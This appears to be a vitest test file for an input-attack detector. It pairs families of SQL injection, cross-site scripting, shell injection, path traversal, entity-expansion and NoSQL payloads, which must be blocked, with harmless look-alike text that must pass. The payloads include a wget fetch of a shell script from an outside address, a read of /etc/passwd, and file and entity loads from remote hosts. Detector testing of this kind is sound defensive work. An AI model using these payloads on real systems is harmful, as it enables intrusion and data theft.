import { describe, expect, test } from 'vitest';
import { detectors } from './detectors.ts';
import { judge } from './testing/ask.ts';

/** Families of attacks that were once missed as a whole, each with cases of our own and honest text that looks like them. */
const families: readonly (readonly [string, readonly string[], readonly string[]])[] = [
  [
    'SQL: a number with its suffix before a keyword',
    ['7dUNION SELECT 8', '12fUNION SELECT shop_name FROM shops_all', '3or2=2'],
    ['12abc', '3D union', '2or3 days', '5f union meeting'],
  ],
  [
    'SQL: constants by another name',
    ["x''7' and pi()=pi()--", "b''2' and (3=pi())--", 'NAME AND SIN(2)=COS(5)', '(42=17)*17'],
    ['cos(x) and sin(x)', 'pi (3.14) and e (2.72)', '(8*3)*2'],
  ],
  [
    'SQL: a union of one column',
    [
      '"-sqlite_version() UNION SELECT pin FROM members- --',
      'union select pin from members where 1',
      '4 UNION SELECT 0x6d6e LIMIT 1',
    ],
    ['the union, select members from all of them', 'union select 2 of them'],
  ],
  [
    'SQL: a query behind a logical word, or computed with',
    [
      '3 AND SELECT 1 FROM T.DAYS -- 3',
      "k' or MATCH title AGAINST ('+a' IN BOOLEAN MODE); -- k",
      "k') as q where 12=12 order by 2#",
    ],
    ['3 and select one of them', "the title's match against (the) others"],
  ],
  [
    'SQL: statements seldom seen',
    [
      "RESTORE DATABASE [crm] FROM DISK = '\\\\192.0.2.7\\share'",
      '9)));begin user_lock.sleep(9); end--',
      "'; desc members; --",
      "'select 2 begin declare @q varchar(90);set @q = 'x';exec(@q) end--",
    ],
    ['restore the database from disk, please', 'begin at 9; end at 10'],
  ],
  [
    'SQL: the whole value is a call',
    ['LENGTH(version())', 'compress(compress(user()))', "LOAD_FILE('\\\\\\\\198.51.100.4\\\\s')", 'convert(int,@@servername)'],
    ['count(x)', 'left(name, 3)', 'length(cm)'],
  ],
  [
    'joined pieces',
    [
      '9\\"XOR(if(now()=sysdate(),sleep(8),0))XOR\\"K',
      "p='java'+'scr'+'ipt:al'+'ert(7)';location=p",
      '5 uni/**/on sel/**/ect name,pin from members',
      "x' un\u200bion se\u200blect 1,2,3--",
      '<\u017fvg onload=open(8)>',
    ],
    ['她说\\"好的\\"，明天见', "'a' + 'b' + 'c'", 'a/**/b', '换\u200b行'],
  ],
  [
    'script: a function under another name',
    [
      "'];q=eval;w=alert;q(w(8));//",
      'K=confirm;K(2)',
      'confirm.call(null,8)',
      'new Function`al\\ert\\`8\\``',
      "k=0||'ev'+'al',m=0||location.hash,2[k](m[n](4))",
      'with(location)eval(hash)',
    ],
    [
      'status=confirm; next=prompt',
      'uses `new Function` only',
      '1[链接](https://example.com)',
      'notes[1](see below)',
      'with (document) enclosed',
    ],
  ],
  [
    'script: leaving a string and what is around it',
    [
      '");}alert("k");{//',
      "7'});}catch(e){}alert(0);try{prompt(a={'k':'v",
      '";window.onblur=function(){alert(4);}//',
      '${prompt(12)}',
    ],
    ["alert('请先登录');", "it's an alert (red); act now"],
  ],
  [
    'markup: old engines and filters that remove a word',
    [
      '<scrscriptipt>alert(8)</scrscriptipt>',
      '\u00bcscript\u00bealert(\u00a28\u00a2)\u00bc/script\u00be',
      '<hr size="&{confirm(8)}">',
      '<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=confirm("8")>',
      ' style=width: expression(confirm(8));" k="',
      '<a href="http://%65%76%69%6c%2e%74%65%73%74">k</a>',
      '<math><a xlink:href="//evil.test/k">k',
    ],
    [
      '\u00bc cup and \u00be cup',
      'A&{B}',
      '<b>\u201c<i>好</i>\u201d</b>',
      "她写 = '<p>正文</p>' 这样的字符串",
      '样式 expression (表达式) 已停用',
    ],
  ],
  [
    'shell: what a script prints to see whether it runs',
    [
      "'; s=$(echo KKWQ); n=${#s}; if [ 4 -ne ${n} ]; then sleep 0; else sleep 3; fi ",
      ' echo QQ$((41+19))$(echo QQ)QQ"',
      'less</etc/passwd',
      '发票没有收到，&& wget http://198.51.100.9/k.sh',
      "k ' && whoami",
    ],
    [
      'if 5 then 6',
      '价格：$(约)30',
      '好的，& 谢谢',
      "it's A && B",
      'TypeError: x is not a function\\n    at e.<anonymous> (https://cdn.example.com/app.js:1:17558)\\n    at https://cdn.example.com/app.js:1:2',
    ],
  ],
  [
    'paths with spaces, with steps that go nowhere, without slashes',
    ['C:/Program Files (x86)/wamp/apache/conf/httpd.conf', './././././././etc/shadow', '................etcpasswd'],
    ['C:\\Program Files\\Tencent\\WXWork\\WXWork.exe', 'D:\\项目 资料\\说明.xml', './src/index.js', '................'],
  ],
  [
    'documents that grow',
    [
      '<!ENTITY k7 "&k6;&k6;&k6;&k6;">',
      'a: &a [1,2]\nb: &b [*a,*a,*a]\nc: &c [*b,*b,*b]',
      '+ADwAIQ-ENTITY k SYSTEM +ACI-http://198.51.100.9/k+ACI +AD4AXQA+',
    ],
    [
      'a: &a [1,2]\nb: *a',
      '<project xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd">',
    ],
  ],
  [
    'scripts of databases',
    ['5;return true', "';d=new Date();do{e=new Date();}while(e-d<4000);", 'db.members.insert({k:1});'],
    ['return true', 'db.members.find 怎么用'],
  ],
];

describe.each(families.map(([name, attacks, honest]) => [name, attacks, honest] as const))('%s', (_, attacks, honest) => {
  const action = judge(detectors);

  test.each(attacks.map((text) => [text]))('blocks %j', (text) => expect(action(text)).toBe('block'));
  test.each(honest.map((text) => [text]))('passes %j', (text) => expect(action(text)).not.toBe('block'));
});
